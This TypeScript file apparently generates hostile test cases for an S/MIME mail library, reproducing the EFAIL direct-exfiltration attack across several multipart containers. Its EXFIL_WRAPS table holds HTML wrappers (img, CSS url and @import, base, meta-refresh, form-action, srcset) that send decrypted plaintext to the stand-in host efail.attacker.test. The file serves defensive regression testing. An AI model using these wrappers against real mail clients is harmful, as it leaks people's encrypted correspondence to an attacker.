/**
 * EFAIL direct exfiltration (Poddebniak et al., USENIX Security 2018, §4): the
 * attacker takes a real encrypted message and wraps its ciphertext between HTML parts
 * that open an unterminated URL, so a client that decrypts every part and joins the
 * results sends the plaintext to the attacker. Cachet only decrypts an encrypted ROOT.
 */
import type { CryptoLike } from '../../src/core/crypto'
import { opensslEncrypt } from '../interop/harness/openssl-cms'
import { crlf } from '../interop/harness/eml'
import type { CorpusPki } from './pki'
import { encryptedEntity, envelope, html, message, multipart, randomSecret, rfc822, secretEntity, signedEntity } from './mime'
import type { HostileCase } from './types'

const EXFIL = 'http://efail.attacker.test/'

/** Opening and closing HTML around the ciphertext: every channel named by the paper. */
export const EXFIL_WRAPS: Record<string, [string, string]> = {
  img: [`<html><body><img src="${EXFIL}`, '"></body></html>'],
  'css-url': [`<html><head><style>body{background:url("${EXFIL}`, '")}</style></head></html>'],
  'css-import': [`<html><head><style>@import "${EXFIL}`, '";</style></head></html>'],
  base: [`<html><head><base href="${EXFIL}"></head><body><a href="`, '">click</a></body></html>'],
  'meta-refresh': [`<html><head><meta http-equiv="refresh" content="0; url=${EXFIL}`, '"></head></html>'],
  'form-action': [`<html><body><form action="${EXFIL}`, '"><button>Open</button></form></body></html>'],
  srcset: [`<html><body><img srcset="${EXFIL}`, ' 1x"></body></html>'],
}

export const CONTAINERS = ['mixed', 'related', 'alternative', 'rfc822'] as const

export async function efailCases(pki: CorpusPki, crypto: CryptoLike, dir: string): Promise<HostileCase[]> {
  const secret = randomSecret('efail')
  const { entity: enc } = await encryptedEntity(secretEntity(secret), [pki.bob.certificate, pki.alice.certificate], 'aes-256-cbc', crypto)
  // The original message as Bob received it (for the message/rfc822 container).
  const original = message(envelope(`Alice <${pki.alice.email}>`, 'Launch'), enc)
  const cases: HostileCase[] = []
  for (const [wrap, [open, close]] of Object.entries(EXFIL_WRAPS)) {
    for (const container of CONTAINERS) {
      const middle = container === 'rfc822' ? rfc822(original) : enc
      const subtype = container === 'rfc822' ? 'mixed' : container
      const body = multipart(subtype, [html(open), middle, html(close)], subtype === 'related' ? '; type="text/html"' : '')
      cases.push({
        name: `efail-${wrap}-${container}`,
        attack: 'efail-direct',
        description: `Real ciphertext wrapped in multipart/${subtype}${container === 'rfc822' ? ' (as message/rfc822)' : ''} between HTML parts opening an unterminated ${wrap} URL.`,
        raw: message(envelope(`Alice <${pki.alice.email}>`, 'Re: Launch'), body),
        expected: { signature: 'none', encryption: 'none', secrets: [secret], embedded: 1 },
      })
    }
  }
  // The same with a ciphertext made by OpenSSL, as a peer client would have sent it.
  const secret2 = randomSecret('efail-openssl')
  const sslEntity = crlf(await opensslEncrypt(dir, [pki.bob.leaf], secretEntity(secret2), { cipher: 'aes-128-cbc' }))
  cases.push({
    name: 'efail-img-mixed-openssl',
    attack: 'efail-direct',
    description: 'OpenSSL-made ciphertext between <img src=" and "> in multipart/mixed.',
    raw: message(envelope(`Alice <${pki.alice.email}>`, 'Re: Launch'), multipart('mixed', [html(EXFIL_WRAPS.img![0]), sslEntity, html(EXFIL_WRAPS.img![1])])),
    expected: { signature: 'none', encryption: 'none', secrets: [secret2], embedded: 1 },
  })
  // The attacker signs the wrap with her own valid certificate: her signature is honest
  // (valid for mallory@evil.test), but Alice's ciphertext inside stays sealed.
  const wrap = multipart('mixed', [html(EXFIL_WRAPS.img![0]), enc, html(EXFIL_WRAPS.img![1])])
  cases.push({
    name: 'efail-inside-attacker-signature',
    attack: 'efail-direct',
    description: 'Mallory signs (validly) a multipart/mixed holding Alice\'s ciphertext between <img src=" and ">.',
    raw: message(envelope(`Mallory <${pki.mallory.email}>`, 'Re: Launch'), await signedEntity(wrap, pki.mallory, crypto)),
    expected: { signature: 'valid', encryption: 'none', secrets: [secret], embedded: 1, signerEmail: pki.mallory.email },
  })
  // The attacker encrypts the wrap to Bob: the ROOT decrypts (her layer), the victim's
  // ciphertext inside it is a non-root part and stays sealed.
  const outer = await encryptedEntity(wrap, [pki.bob.certificate], 'aes-256-gcm', crypto)
  cases.push({
    name: 'efail-inside-attacker-encryption',
    attack: 'efail-direct',
    description: 'Mallory encrypts to Bob a multipart/mixed holding Alice\'s ciphertext between <img src=" and ">: only Mallory\'s root layer is opened.',
    raw: message(envelope(`Mallory <${pki.mallory.email}>`, 'Re: Launch'), outer.entity),
    expected: { signature: 'none', encryption: 'decrypted', secrets: [secret], embedded: 1 },
  })
  return cases
}
